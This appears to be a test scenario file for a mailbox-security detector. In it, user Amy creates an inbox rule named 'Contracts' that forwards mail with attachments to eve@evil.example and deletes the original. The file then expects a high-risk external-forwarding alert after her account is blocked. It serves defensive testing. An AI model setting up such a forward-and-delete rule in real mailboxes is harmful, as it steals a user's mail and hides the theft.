# The account is blocked, but its rule goes on, and keeps no copy.
domain fabrikam.com
domain fabrikam.onmicrosoft.com
person amy "Amy Adams"
person bob "Bob Brown"
person cyd "Cyd Clark"

mon 09:00 amy makes rule "Contracts" when has_attachments forward to eve@evil.example delete
tue 09:00 amy is blocked
expect forward-outside amy risk 85 says "and deletes it"
